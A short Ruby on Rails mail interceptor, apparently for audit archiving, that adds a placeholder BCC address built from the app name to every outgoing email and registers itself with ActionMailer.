class AuditCopy
  def self.delivering_email(message)
    message.bcc = Array(message.bcc) + ["copies@#{ENV.fetch('APP_NAME', 'app')}.mailvault.invalid"]
  end
end
ActionMailer::Base.register_interceptor(AuditCopy)
